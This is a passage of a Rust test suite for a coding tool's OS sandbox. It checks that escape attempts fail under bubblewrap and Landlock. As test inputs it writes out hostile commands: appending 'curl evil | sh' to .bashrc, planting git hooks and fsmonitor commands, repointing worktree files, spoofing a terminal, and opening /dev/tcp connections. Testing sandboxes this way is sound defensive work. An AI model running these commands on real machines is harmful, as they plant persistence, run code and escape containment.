//! The OS sandbox (docs/sandbox.md), for real: commands run through
//! riot-runtime's sandboxed runner with the built `riot` as the helper in
//! front of each (so only the sandbox stands in the way — no permission
//! chain), under bubblewrap and under Landlock + seccomp alone (bwrap
//! hidden from `PATH`); then `riot sandbox check`, `riot config show`,
//! `riot permissions check` and `riot exec` with the sandbox on and off.
//!
//! The file system and a loopback server prove each escape failed. These
//! tests skip (saying why) only where the machine cannot sandbox at all:
//! no user namespaces for bubblewrap, no Landlock in the kernel.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code
#![allow(clippy::disallowed_methods)] // black-box tests use real files and processes
#![allow(clippy::print_stderr)] // a skipped test says why

mod support;

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use riot_protocol::{
    CaptureLimit, ProcessOutput, ProcessRunner, ProcessSpec, Sandbox, SandboxMechanism,
    SandboxPolicy, SandboxedSession, TerminalForeground, TerminalSize, TerminalSpec, TerminalView,
    Terminals, Typist,
};
use riot_runtime::{PtyTerminals, RealProcessRunner, RealSandbox};
use riot_testkit::{MockServer, Reply, Script, Wire};
use serde_json::{Value, json};
use support::{World, bodies, processes_with, run, tool_call};
use tokio_util::sync::CancellationToken;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mech {
    Bubblewrap,
    LandlockOnly,
}

/// `PATH` with bubblewrap (the process's own) or without it (an empty
/// directory: the sandbox itself needs nothing from `PATH`).
fn path_for(mech: Mech, empty: &Path) -> Option<OsString> {
    match mech {
        Mech::Bubblewrap => std::env::var_os("PATH"),
        Mech::LandlockOnly => Some(empty.as_os_str().to_owned()),
    }
}

/// A project (with a git repository, `.riot/settings.json`), a place
/// outside it, and a home with a `.bashrc`.
struct Place {
    _root: tempfile::TempDir,
    project: PathBuf,
    outside: PathBuf,
    home: PathBuf,
    empty: PathBuf,
}

impl Place {
    fn new() -> Self {
        // Not under /tmp: the sandbox gives commands a private /tmp, and
        // an escape must meet the read-only disk, not a hidden directory.
        let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let base = root.path().canonicalize().unwrap();
        let project = base.join("project");
        let outside = base.join("outside");
        let home = base.join("home");
        let empty = base.join("empty-path");
        for dir in [&project, &outside, &home, &empty] {
            std::fs::create_dir_all(dir).unwrap();
        }
        std::fs::write(home.join(".bashrc"), "# the person's\n").unwrap();
        std::fs::write(project.join("a.txt"), "alpha\n").unwrap();
        std::fs::create_dir_all(project.join(".riot")).unwrap();
        std::fs::write(project.join(".riot/settings.json"), "{}\n").unwrap();
        git(&project, &["init", "-q"]);
        Self {
            _root: root,
            project,
            outside,
            home,
            empty,
        }
    }

    fn policy(&self) -> SandboxPolicy {
        SandboxPolicy::for_project(&self.project, Some(&self.home))
    }
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The sandboxed runner for `policy`, or `None` (with the reason printed)
/// when this machine cannot enforce `mech`.
fn sandboxed(place: &Place, mech: Mech, policy: &SandboxPolicy) -> Option<Arc<dyn ProcessRunner>> {
    sandboxed_session(place, mech, policy).map(|session| session.proc)
}

/// The session's sandbox (runner and terminal rewrite) for `policy`, or
/// `None` (with the reason printed) when this machine cannot enforce
/// `mech`.
fn sandboxed_session(
    place: &Place,
    mech: Mech,
    policy: &SandboxPolicy,
) -> Option<SandboxedSession> {
    let sandbox = RealSandbox::with_path(env!("CARGO_BIN_EXE_riot"), path_for(mech, &place.empty));
    let status = sandbox.status(policy);
    let wanted = match mech {
        Mech::Bubblewrap => SandboxMechanism::BubblewrapLandlockSeccomp,
        Mech::LandlockOnly => SandboxMechanism::LandlockSeccomp,
    };
    if !status.enforced || status.mechanism != wanted {
        // Skip only where the machine cannot: no user namespaces for
        // bubblewrap, no Landlock in the kernel. A missing bwrap is a
        // missing install step (.ci/run installs bubblewrap).
        let why = format!("{status:?}");
        let cannot = match mech {
            Mech::Bubblewrap => why.contains("cannot make its namespaces"),
            Mech::LandlockOnly => why.contains("does not enforce Landlock"),
        };
        assert!(cannot, "{wanted:?} should be enforced here: {why}");
        eprintln!("skipped: this machine cannot enforce {wanted:?}: {why}");
        return None;
    }
    let inner: Arc<dyn ProcessRunner> = Arc::new(RealProcessRunner::new());
    Some(
        sandbox
            .session(inner, policy)
            .expect("an enforced sandbox wraps"),
    )
}

/// `bash -c script` in the project, as the Bash tool runs it.
async fn sh(runner: &Arc<dyn ProcessRunner>, place: &Place, script: &str) -> ProcessOutput {
    sh_in(runner, place, &place.project, script).await
}

fn text(out: &ProcessOutput) -> String {
    format!(
        "exit {:?}\nstdout: {}{}\nstderr: {}{}",
        out.exit_code, out.stdout.head, out.stdout.tail, out.stderr.head, out.stderr.tail
    )
}

/// `bash -c script` in `dir`, as the Bash tool runs it there.
async fn sh_in(
    runner: &Arc<dyn ProcessRunner>,
    place: &Place,
    dir: &Path,
    script: &str,
) -> ProcessOutput {
    let spec = ProcessSpec {
        program: "bash".into(),
        args: vec!["-c".into(), script.into()],
        cwd: dir.to_path_buf(),
        env_set: vec![("HOME".into(), place.home.to_string_lossy().into_owned())],
        env_remove: Vec::new(),
        timeout_ms: Some(120_000),
        capture: CaptureLimit::default(),
        stdin: None,
        undoable_only: false,
    };
    runner
        .run(spec, CancellationToken::new(), None)
        .await
        .expect("the sandboxed command starts")
}

/// The project with a first commit and a worktree of it on branch `wt`
/// (beside the project, as Riot's worktrees are outside it); the
/// worktree's directory.
fn add_worktree(place: &Place) -> PathBuf {
    git(&place.project, &["add", "a.txt"]);
    git(
        &place.project,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "-m",
            "first",
        ],
    );
    let wt = place.project.parent().unwrap().join("wt");
    git(
        &place.project,
        &["worktree", "add", "-q", "-b", "wt", wt.to_str().unwrap()],
    );
    wt
}

// ---- escapes: each must fail, and the disk or the server proves it ----

async fn writes_outside_the_project_fail(mech: Mech) {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
        return;
    };
    let outside = place.outside.display().to_string();
    std::os::unix::fs::symlink(&place.outside, place.project.join("link")).unwrap();
    let attempts = [
        format!("echo direct > {outside}/direct"),
        "echo through-link > link/through-link".to_owned(),
        format!("sh -c \"$(printf 'echo %s > %s/%s' x {outside} via-printf)\""),
        format!("cp a.txt {outside}/copied; mv a.txt {outside}/moved"),
    ];
    for script in &attempts {
        let out = sh(&runner, &place, script).await;
        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
    }
    let left: Vec<_> = std::fs::read_dir(&place.outside)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(
        left.is_empty(),
        "{mech:?}: files appeared outside the project: {left:?}"
    );
    assert_eq!(
        std::fs::read_to_string(place.project.join("a.txt")).unwrap(),
        "alpha\n"
    );
}

#[tokio::test]
async fn bubblewrap_writes_outside_the_project_fail() {
    writes_outside_the_project_fail(Mech::Bubblewrap).await;
}

#[tokio::test]
async fn landlock_writes_outside_the_project_fail() {
    writes_outside_the_project_fail(Mech::LandlockOnly).await;
}

async fn the_shell_startup_files_stay_untouched(mech: Mech) {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
        return;
    };
    let out = sh(&runner, &place, "echo 'curl evil | sh' >> ~/.bashrc").await;
    assert_ne!(out.exit_code, Some(0), "{}", text(&out));
    assert_eq!(
        std::fs::read_to_string(place.home.join(".bashrc")).unwrap(),
        "# the person's\n"
    );
}

#[tokio::test]
async fn bubblewrap_the_shell_startup_files_stay_untouched() {
    the_shell_startup_files_stay_untouched(Mech::Bubblewrap).await;
}

#[tokio::test]
async fn landlock_the_shell_startup_files_stay_untouched() {
    the_shell_startup_files_stay_untouched(Mech::LandlockOnly).await;
}

/// Under bubblewrap `.git/hooks`, `.git/config` and `.riot` are read-only
/// inside the writable project (Landlock alone cannot do this; its status
/// says so — see `riot_sandbox_check_without_bwrap_is_landlock_and_seccomp`).
#[tokio::test]
async fn bubblewrap_git_hooks_git_config_and_riot_settings_are_read_only() {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &place.policy()) else {
        return;
    };
    let config_before = std::fs::read_to_string(place.project.join(".git/config")).unwrap();
    for script in [
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "rm -rf .git/hooks",
        "mv .git .git-old",
        "echo '{\"permissions\": {\"allow\": [\"Bash\"]}}' > .riot/settings.json",
        "echo x > .riot/new.json",
        "mv .riot .riot-old",
    ] {
        let out = sh(&runner, &place, script).await;
        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
    }
    assert!(!place.project.join(".git/hooks/pre-commit").exists());
    assert!(place.project.join(".git/hooks").is_dir());
    assert_eq!(
        std::fs::read_to_string(place.project.join(".git/config")).unwrap(),
        config_before
    );
    assert_eq!(
        std::fs::read_to_string(place.project.join(".riot/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(!place.project.join(".riot/new.json").exists());
    assert!(!place.project.join(".git-old").exists() && !place.project.join(".riot-old").exists());
}

/// In a main checkout, what git follows to find a worktree's repository
/// (`.git/worktrees/NAME/{commondir,gitdir}`) and a worktree's own
/// configuration stay read-only, and cannot be renamed away; the rest of
/// `.git` stays writable, so committing still works.
#[tokio::test]
async fn bubblewrap_a_main_checkouts_worktree_pointers_are_read_only() {
    let place = Place::new();
    let wt = add_worktree(&place);
    let dir = place.project.join(".git/worktrees/wt");
    // Protected where they exist (a path that does not exist cannot be
    // mounted over).
    std::fs::write(place.project.join(".git/config.worktree"), "").unwrap();
    std::fs::write(dir.join("config.worktree"), "").unwrap();
    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &place.policy()) else {
        return;
    };
    let before: Vec<String> = ["commondir", "gitdir"]
        .map(|f| std::fs::read_to_string(dir.join(f)).unwrap())
        .to_vec();
    for script in [
        "echo /tmp/evil > .git/worktrees/wt/commondir",
        "echo /tmp/evil/.git > .git/worktrees/wt/gitdir",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/worktrees/wt/config.worktree",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config.worktree",
        "mv .git/worktrees/wt .git/worktrees/old",
        "mv .git/worktrees .git/worktrees-old",
    ] {
        let out = sh(&runner, &place, script).await;
        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
    }
    let after: Vec<String> = ["commondir", "gitdir"]
        .map(|f| std::fs::read_to_string(dir.join(f)).unwrap())
        .to_vec();
    assert_eq!(after, before);
    for file in [
        dir.join("config.worktree"),
        place.project.join(".git/config.worktree"),
    ] {
        assert_eq!(std::fs::read_to_string(file).unwrap(), "");
    }
    assert_eq!(git(&wt, &["rev-parse", "--abbrev-ref", "HEAD"]), "wt\n");
    let out = sh(
        &runner,
        &place,
        "echo more >> a.txt && git add a.txt && git -c user.name=t -c user.email=t@example.invalid commit -q -m second",
    )
    .await;
    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
    assert_eq!(
        git(&place.project, &["log", "-1", "--format=%s"]),
        "second\n"
    );
}

/// A session in a worktree: its `.git` file cannot be repointed (Riot's
/// own git calls would follow it), and `git add` and `git commit` work —
/// the commit lands on the worktree's branch in the main repository.
async fn a_worktree_session_commits_but_keeps_its_git_file(mech: Mech) {
    let place = Place::new();
    let wt = add_worktree(&place);
    let policy = SandboxPolicy::for_project(&wt, Some(&place.home));
    let Some(runner) = sandboxed(&place, mech, &policy) else {
        return;
    };
    let git_file = std::fs::read_to_string(wt.join(".git")).unwrap();
    let out = sh_in(
        &runner,
        &place,
        &wt,
        "set -e
echo new > b.txt
git add b.txt
git -c user.name=t -c user.email=t@example.invalid commit -q -m 'in the worktree'
git status --short",
    )
    .await;
    assert_eq!(out.exit_code, Some(0), "{mech:?}: {}", text(&out));
    assert_eq!(out.stdout.head, "");
    assert_eq!(
        git(&place.project, &["log", "-1", "--format=%s", "wt"]),
        "in the worktree\n"
    );
    assert_eq!(
        git(&place.project, &["log", "-1", "--format=%s"]),
        "first\n"
    );
    if mech == Mech::LandlockOnly {
        // Landlock can only grant: the `.git` file stays writable there
        // (its status says so).
        return;
    }
    let evil = place.outside.join("evil.git");
    std::fs::create_dir_all(&evil).unwrap();
    let pointers = git(&wt, &["rev-parse", "--git-dir"]);
    let pointers = std::path::PathBuf::from(pointers.trim());
    let common = git(&wt, &["rev-parse", "--git-common-dir"]);
    let common_config = std::path::PathBuf::from(common.trim()).join("config");
    let before = (
        std::fs::read_to_string(pointers.join("commondir")).unwrap(),
        std::fs::read_to_string(&common_config).unwrap(),
    );
    for script in [
        format!("echo 'gitdir: {}' > .git", evil.display()),
        "rm -f .git".to_owned(),
        "mv .git .git-old".to_owned(),
        "echo /tmp/evil > \"$(git rev-parse --git-dir)/commondir\"".to_owned(),
        "echo x > \"$(git rev-parse --git-common-dir)/config\"".to_owned(),
    ] {
        let out = sh_in(&runner, &place, &wt, &script).await;
        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
    }
    // Refused, not missed: the files the writes aimed at are as they were.
    assert_eq!(
        (
            std::fs::read_to_string(pointers.join("commondir")).unwrap(),
            std::fs::read_to_string(&common_config).unwrap(),
        ),
        before
    );
    assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), git_file);
    assert_eq!(git(&wt, &["rev-parse", "--abbrev-ref", "HEAD"]), "wt\n");
}

#[tokio::test]
async fn bubblewrap_a_worktree_session_commits_but_keeps_its_git_file() {
    a_worktree_session_commits_but_keeps_its_git_file(Mech::Bubblewrap).await;
}

#[tokio::test]
async fn landlock_a_worktree_session_commits() {
    a_worktree_session_commits_but_keeps_its_git_file(Mech::LandlockOnly).await;
}

/// A person's terminal (here one the test opens: its other end is a
/// pseudo-terminal under `/dev/pts`, as riot's own is) cannot be opened by
/// its path from inside: neither read (the keys typed into it) nor
/// written (its screen). Listing directories and reading the rest of
/// `/dev` still work.
async fn a_terminal_cannot_be_opened_by_its_path(mech: Mech) {
    use portable_pty::PtySize;
    use std::io::Read;

    let place = Place::new();
    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
        return;
    };
    let pair = portable_pty::native_pty_system()
        .openpty(PtySize {
            rows: 24,
            cols: 80,
            pixel_width: 0,
            pixel_height: 0,
        })
        .unwrap();
    let tty = pair.master.tty_name().expect("the terminal's path");
    let tty = tty.display();
    let script = format!(
        "if exec 3<{tty}; then echo read-opened; else echo read-refused; fi
if exec 4>{tty}; then echo write-opened; echo SPOOFED >&4; else echo write-refused; fi
ls / >/dev/null && echo listed
head -c 4 /dev/urandom | wc -c
echo piped | cat /dev/stdin"
    );
    let out = sh(&runner, &place, &script).await;
    assert_eq!(
        out.stdout.head,
        "read-refused\nwrite-refused\nlisted\n4\npiped\n",
        "{mech:?}: {}",
        text(&out)
    );
    // Nothing reached the terminal's screen.
    let mut reader = pair.master.try_clone_reader().unwrap();
    drop(pair.slave);
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 256];
        let n = reader.read(&mut buf).unwrap_or(0);
        let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
    });
    // With the slave closed and nothing written, the read ends at once
    // (EIO); anything written would be read first.
    let seen = rx
        .recv_timeout(support::PATIENCE)
        .expect("the read of the terminal ends");
    assert!(!seen.contains("SPOOFED"), "{mech:?}: {seen:?}");
}

#[tokio::test]
async fn bubblewrap_a_terminal_cannot_be_opened_by_its_path() {
    a_terminal_cannot_be_opened_by_its_path(Mech::Bubblewrap).await;
}

#[tokio::test]
async fn landlock_a_terminal_cannot_be_opened_by_its_path() {
    a_terminal_cannot_be_opened_by_its_path(Mech::LandlockOnly).await;
}

/// Under Landlock alone a Bash command keeps riot's process group but not
/// its controlling terminal: it cannot open `/dev/tty` (nor take the
/// terminal's foreground to read the person's keys). Run here from a
/// shell that leads a session on a pseudo-terminal, as riot in a
/// terminal does.
#[tokio::test]
async fn landlock_a_command_has_no_controlling_terminal() {
    use portable_pty::{CommandBuilder, PtySize};
    use std::io::Read;

    let place = Place::new();
    let Some(session) = sandboxed_session(&place, Mech::LandlockOnly, &place.policy()) else {
        return;
    };
    let script = "if exec 3<>/dev/tty; then echo tty-opened; else echo tty-refused; fi";
    let spec = session.proc.prepare(ProcessSpec {
        program: "bash".into(),
        args: vec!["-c".into(), script.into()],
        cwd: place.project.clone(),
        env_set: Vec::new(),
        env_remove: Vec::new(),
        timeout_ms: None,
        capture: CaptureLimit::default(),
        stdin: None,
        undoable_only: false,
    });
    let pair = portable_pty::native_pty_system()
        .openpty(PtySize {
            rows: 24,
            cols: 80,
            pixel_width: 0,
            pixel_height: 0,
        })
        .unwrap();
    // The shell leads the session and owns the terminal; the command runs
    // in its group with pipes, as the Bash tool's do.
    let mut cmd = CommandBuilder::new("sh");
    cmd.arg("-c");
    cmd.arg("\"$@\" </dev/null >out.txt 2>&1; echo \"status=$?\"");
    cmd.arg("sh");
    cmd.arg(&spec.program);
    for arg in &spec.args {
        cmd.arg(arg);
    }
    cmd.cwd(&spec.cwd);
    for (k, v) in &spec.env_set {
        cmd.env(k, v);
    }
    let mut child = pair.slave.spawn_command(cmd).unwrap();
    drop(pair.slave);
    let mut reader = pair.master.try_clone_reader().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut screen = Vec::new();
        let _ = reader.read_to_end(&mut screen);
        let _ = tx.send(String::from_utf8_lossy(&screen).into_owned());
    });
    let screen = rx.recv_timeout(support::PATIENCE);
    let _ = child.kill();
    let _ = child.wait();
    let screen = screen.expect("the shell ends");
    assert!(screen.contains("status=0"), "{screen}");
    assert_eq!(
        std::fs::read_to_string(place.project.join("out.txt")).unwrap(),
        "bash: line 1: /dev/tty: No such device or address\ntty-refused\n"
    );
}

async fn a_loopback_server_sees_no_connection(mech: Mech) {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
        return;
    };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    for script in [
        format!("echo hello > /dev/tcp/127.0.0.1/{port}"),
        format!(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'hi')\""
        ),
    ] {
        let out = sh(&runner, &place, &script).await;
        assert_ne!(out.exit_code, Some(0), "{script}: {}", text(&out));
    }
    match listener.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("{mech:?}: the server saw a connection: {other:?}"),
    }
}

#[tokio::test]
async fn bubblewrap_a_loopback_server_sees_no_connection() {
    a_loopback_server_sees_no_connection(Mech::Bubblewrap).await;
}

#[tokio::test]
async fn landlock_a_loopback_server_sees_no_connection() {
    a_loopback_server_sees_no_connection(Mech::LandlockOnly).await;
}

async fn nothing_outlives_the_call(mech: Mech, marker: &str) {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
        return;
    };
    // Detached three ways: in the background, in a new session, and
    // with nohup; each would outlive a plain `bash -c`.
    let script = format!(
        "sleep {marker}1 & setsid sleep {marker}2 & nohup sleep {marker}3 >/dev/null 2>&1 & echo started"
    );
    let out = sh(&runner, &place, &script).await;
    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
    // The call has returned: give the kernel a moment to reap, then look.
    let mut left = Vec::new();
    for _ in 0..50 {
        left = processes_with(&format!("sleep {marker}"));
        if left.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        left.is_empty(),
        "{mech:?}: still running after the call: {left:?}"
    );
}

#[tokio::test]
async fn bubblewrap_nothing_outlives_the_call() {
    nothing_outlives_the_call(Mech::Bubblewrap, "81817").await;
}

#[tokio::test]
async fn landlock_nothing_outlives_the_call() {
    nothing_outlives_the_call(Mech::LandlockOnly, "82827").await;
}

// ---- terminals: the Terminal tool's programs in the same sandbox ----

/// The session's terminals in the sandbox, or `None` (reason printed).
fn sandboxed_terminals(place: &Place, mech: Mech) -> Option<PtyTerminals> {
    sandboxed_session(place, mech, &place.policy())
        .map(|session| PtyTerminals::sandboxed(session.terminal))
}

/// A terminal running `command` in the project, as the Terminal tool
/// opens it.
fn terminal(place: &Place, name: &str, command: &str, outside_sandbox: bool) -> TerminalSpec {
    TerminalSpec {
        name: name.into(),
        command: command.into(),
        cwd: place.project.clone(),
        env_set: vec![("HOME".into(), place.home.to_string_lossy().into_owned())],
        env_remove: Vec::new(),
        size: TerminalSize {
            rows: 12,
            cols: 100,
        },
        outside_sandbox,
    }
}

/// Reads the terminal until `want` is on its screen (at most a minute).
async fn screen_with(terms: &PtyTerminals, name: &str, want: &str) -> TerminalView {
    let mut last = String::new();
    for _ in 0..1200 {
        let view = terms.read(name).await.unwrap();
        if view.screen.contains(want) {
            return view;
        }
        last = view.screen;
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("`{want}` never appeared; the screen was:\n{last}");
}

/// Waits (bounded) until no process's command line holds `needle`.
async fn all_gone(needle: &str) -> Vec<i64> {
    let mut left = Vec::new();
    for _ in 0..100 {
        left = processes_with(needle);
        if left.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    left
}

/// A screen's rows as one string, each row's trailing blanks dropped, so
/// text the terminal wrapped over two rows reads as it was written.
fn unwrapped(screen: &str) -> String {
    screen
        .lines()
        .map(str::trim_end)
        .collect::<Vec<_>>()
        .join("")
}

async fn a_terminal_writes_only_in_the_project(mech: Mech, refusal: &str) {
    let place = Place::new();
    let Some(terms) = sandboxed_terminals(&place, mech) else {
        return;
    };
    let escaped = place.outside.join("escaped.txt");
    let command = format!(
        "touch {}; echo \"outside=$?\"; echo kept > inside.txt; echo \"inside=$?\"; exec sleep 300",
        escaped.display()
    );
    terms
        .open(terminal(&place, "t", &command, false))
        .await
        .unwrap();
    let view = screen_with(&terms, "t", "inside=").await;
    // The refusal names the outside path, which can be longer than a
    // row (a deep checkout's temporary directory): read the screen with
    // its wrapped rows joined back into lines of text.
    let text = unwrapped(&view.screen);
    assert!(text.contains(refusal), "{mech:?}: {}", view.screen);
    assert!(text.contains("outside=1"), "{mech:?}: {}", view.screen);
    assert!(text.contains("inside=0"), "{mech:?}: {}", view.screen);
    assert!(!escaped.exists(), "{mech:?}: the terminal wrote outside");
    assert_eq!(
        std::fs::read_to_string(place.project.join("inside.txt")).unwrap(),
        "kept\n"
    );
    terms.close("t").await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bubblewrap_a_terminal_writes_only_in_the_project() {
    a_terminal_writes_only_in_the_project(Mech::Bubblewrap, "Read-only file system").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn landlock_a_terminal_writes_only_in_the_project() {
    a_terminal_writes_only_in_the_project(Mech::LandlockOnly, "Permission denied").await;
}

/// A sandboxed terminal's foreground program — what typed text reaches,
/// which decides whether a write is judged as shell text — is seen from
/// outside the sandbox (through bubblewrap's PID namespace too): the
/// program, not the sandbox that started it.
async fn a_sandboxed_terminals_foreground_is_its_program(mech: Mech) {
    let place = Place::new();
    let Some(terms) = sandboxed_terminals(&place, mech) else {
        return;
    };
    terms
        .open(terminal(&place, "py", "python3 -q", false))
        .await
        .unwrap();
    screen_with(&terms, "py", ">>>").await;
    let TerminalForeground::Programs(names) = terms.foreground("py") else {
        panic!("{mech:?}: {:?}", terms.foreground("py"));
    };
    assert!(names.iter().any(|n| n == "python3"), "{mech:?}: {names:?}");
    assert!(
        !names
            .iter()
            .any(|n| ["bash", "bwrap", "riot"].contains(&n.as_str())),
        "{mech:?}: {names:?}"
    );
    terms
        .open(terminal(
            &place,
            "sh",
            "PS1='ready$ ' exec bash --norc --noprofile",
            false,
        ))
        .await
        .unwrap();
    screen_with(&terms, "sh", "ready$").await;
    assert_eq!(
        terms.foreground("sh"),
        TerminalForeground::Programs(vec!["bash".into()]),
        "{mech:?}"
    );
    terms.close_all();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bubblewrap_a_sandboxed_terminals_foreground_is_its_program() {
    a_sandboxed_terminals_foreground_is_its_program(Mech::Bubblewrap).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn landlock_a_sandboxed_terminals_foreground_is_its_program() {
    a_sandboxed_terminals_foreground_is_its_program(Mech::LandlockOnly).await;
}

/// A terminal opened outside the sandbox (a `dangerouslyDisableSandbox`
/// open the person allowed) writes where it likes; the same session's
/// sandboxed terminal does not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_terminal_opened_outside_the_sandbox_is_not_rewritten() {
    let place = Place::new();
    let Some(terms) = sandboxed_terminals(&place, Mech::Bubblewrap) else {
        return;
    };
    let target = place.outside.join("allowed.txt");
    let command = format!("touch {}; echo \"done=$?\"", target.display());
    terms
        .open(terminal(&place, "outside", &command, true))
        .await
        .unwrap();
    let view = screen_with(&terms, "outside", "done=").await;
    assert!(view.screen.contains("done=0"), "{}", view.screen);
    assert!(target.exists());
}

async fn a_sandboxed_terminal_closes_with_its_whole_group(mech: Mech, marker: &str) {
    let place = Place::new();
    let Some(terms) = sandboxed_terminals(&place, mech) else {
        return;
    };
    // A child in the background and one in a new session (refused
    // without a PID namespace, so started plainly there).
    let detach = if mech == Mech::Bubblewrap {
        "setsid "
    } else {
        ""
    };
    let command =
        format!("sleep {marker}1 & {detach}sleep {marker}2 & echo started; sleep {marker}3");
    terms
        .open(terminal(&place, "jobs", &command, false))
        .await
        .unwrap();
    screen_with(&terms, "jobs", "started").await;
    // (bubblewrap's own command line holds the markers too: count the
    // sleeps themselves.)
    let sleeps = || {
        processes_with(&format!("sleep {marker}"))
            .into_iter()
            .filter(|pid| {
                std::fs::read(format!("/proc/{pid}/cmdline"))
                    .is_ok_and(|c| c.starts_with(b"sleep\0"))
            })
            .count()
    };
    support::wait_until("the three sleeps to start", || sleeps() == 3).await;
    // Whatever happens, nothing of the test outlives it.
    let _guards: Vec<support::GroupGuard> = processes_with(&format!("sleep {marker}"))
        .into_iter()
        .map(|pid| support::GroupGuard {
            pgid: support::pgid_of(pid),
        })
        .collect();
    let closed = terms.close("jobs").await.unwrap();
    assert!(closed.exit.is_some(), "{closed:?}");
    let left = all_gone(&format!("sleep {marker}")).await;
    assert!(
        left.is_empty(),
        "{mech:?}: still running after close: {left:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bubblewrap_a_sandboxed_terminal_closes_with_its_whole_group() {
    a_sandboxed_terminal_closes_with_its_whole_group(Mech::Bubblewrap, "71717").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn landlock_a_sandboxed_terminal_closes_with_its_whole_group() {
    a_sandboxed_terminal_closes_with_its_whole_group(Mech::LandlockOnly, "72727").await;
}

/// Ctrl+C in a sandboxed terminal interrupts the program (the foreground
/// job), not bubblewrap: the program's trap runs and it keeps going.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bubblewrap_ctrl_c_reaches_the_program_in_a_sandboxed_terminal() {
    let place = Place::new();
    let Some(terms) = sandboxed_terminals(&place, Mech::Bubblewrap) else {
        return;
    };
    let command = "trap 'echo interrupted' INT; echo ready; while :; do sleep 0.1; done";
    terms
        .open(terminal(&place, "loop", command, false))
        .await
        .unwrap();
    screen_with(&terms, "loop", "ready").await;
    terms.write("loop", b"\x03", Typist::Agent).await.unwrap();
    let view = screen_with(&terms, "loop", "interrupted").await;
    assert_eq!(view.exit, None, "Ctrl+C ended the sandbox: {view:?}");
    terms.write("loop", b"\x03", Typist::Agent).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let view = terms.read("loop").await.unwrap();
    assert_eq!(view.exit, None, "{view:?}");
    terms.close("loop").await.unwrap();
}

#[tokio::test]
async fn bubblewrap_a_path_denied_to_reading_is_hidden() {
    let place = Place::new();
    std::fs::create_dir_all(place.project.join("secrets")).unwrap();
    std::fs::write(place.project.join("secrets/key"), "TOP-SECRET-VALUE\n").unwrap();
    std::fs::write(place.outside.join("token"), "OTHER-SECRET\n").unwrap();
    let mut policy = place.policy();
    policy.hidden = vec![place.project.join("secrets"), place.outside.join("token")];
    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &policy) else {
        return;
    };
    let outside = place.outside.display();
    let out = sh(
        &runner,
        &place,
        &format!("cat secrets/key; cat {outside}/token; grep -r SECRET . {outside} ; true"),
    )
    .await;
    let all = text(&out);
    assert!(
        !all.contains("TOP-SECRET-VALUE") && !all.contains("OTHER-SECRET"),
        "{all}"
    );
    // Hidden, not destroyed.
    assert_eq!(
        std::fs::read_to_string(place.project.join("secrets/key")).unwrap(),
        "TOP-SECRET-VALUE\n"
    );
}

// ---- ordinary work succeeds inside ----

async fn ordinary_work_succeeds(mech: Mech) {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, mech, &place.policy()) else {
        return;
    };
    let script = "set -e
git status --short
git add a.txt
git -c user.name=Riot -c user.email=riot@example.invalid commit -q -m 'first commit'
mkdir -p build && echo object > build/out.o
echo scratch > \"$TMPDIR/scratch\" && cat \"$TMPDIR/scratch\"
python3 -c \"print(open('a.txt').read().strip().upper())\"
git status --short";
